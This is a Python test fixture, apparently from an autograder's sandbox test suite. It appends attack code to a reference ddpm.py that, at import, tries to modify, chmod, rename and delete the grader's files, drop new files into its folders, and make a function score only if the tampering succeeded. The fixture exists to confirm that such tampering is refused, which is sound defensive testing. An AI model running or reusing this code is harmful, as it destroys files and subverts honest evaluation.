
# ---- attack, appended to the reference ddpm.py by the harness --------------------------
# Attack: tamper with the grader's files, at import (so in every ddpm case). For each file
# of the grading root's source folder (the attacker knows the exact list: the harness fills
# it in), run_autograder first, and for the grader's copies the worker runs from (the
# sandbox's runner/ and inputs/): append a comment, chmod 777, touch, rename and unlink;
# also try to drop a new file into each of those folders. Appending only a comment keeps a
# file working if the attack ever succeeded. make_schedule answers right only if anything
# succeeded. Expected: all refused; ROOT/source is byte-for-byte unchanged; make_schedule
# scores 0; every other ddpm function keeps its points.
import json as _hw4_json
import os as _hw4_os
import sys as _hw4_sys

_HW4_ROOT = "@@AUTOGRADER_ROOT@@"
try:
    _HW4_SOURCE_FILES = _hw4_json.loads(r'''@@SOURCE_FILES_JSON@@''')
except ValueError:
    _HW4_SOURCE_FILES = []


def _hw4_sandbox_files():
    argv = list(_hw4_sys.argv)
    found = []
    for flag in ("--runner", "--inputs", "--submission"):
        if flag in argv[:-1]:
            for folder, _, names in _hw4_os.walk(argv[argv.index(flag) + 1]):
                found.extend(_hw4_os.path.join(folder, name) for name in names)
    return found


def _hw4_tamper():
    done = []
    paths = [_hw4_os.path.join(_HW4_ROOT, "source", "run_autograder")] + _HW4_SOURCE_FILES + _hw4_sandbox_files()
    folders = sorted({_hw4_os.path.dirname(path) for path in paths} | {_hw4_os.path.join(_HW4_ROOT, "source")})
    for path in paths:
        try:
            with open(path, "ab") as handle:
                handle.write(b"\n# tampered by an HW4 attack\n")
            done.append(("append", path))
        except OSError:
            pass
        for action, call in (("chmod", lambda: _hw4_os.chmod(path, 0o777)),
                             ("utime", lambda: _hw4_os.utime(path, (0, 0))),
                             ("rename", lambda: _hw4_os.rename(path, path + ".hw4atk")),
                             ("unlink", lambda: _hw4_os.unlink(path))):
            try:
                call()
                done.append((action, path))
            except OSError:
                pass
    for folder in folders:
        try:
            with open(_hw4_os.path.join(folder, "zz_hw4_attack_dropped.py"), "x") as handle:
                handle.write("# dropped by an HW4 attack\n")
            done.append(("create", folder))
        except OSError:
            pass
    return done


_HW4_TAMPERED = _hw4_tamper()
print("tampered:", _HW4_TAMPERED[:5])
_hw4_make_schedule = make_schedule


def make_schedule(betas):
    sched = _hw4_make_schedule(betas)
    if _HW4_TAMPERED or _hw4_tamper():
        return sched
    return {key: value + 1000.0 for key, value in sched.items()}
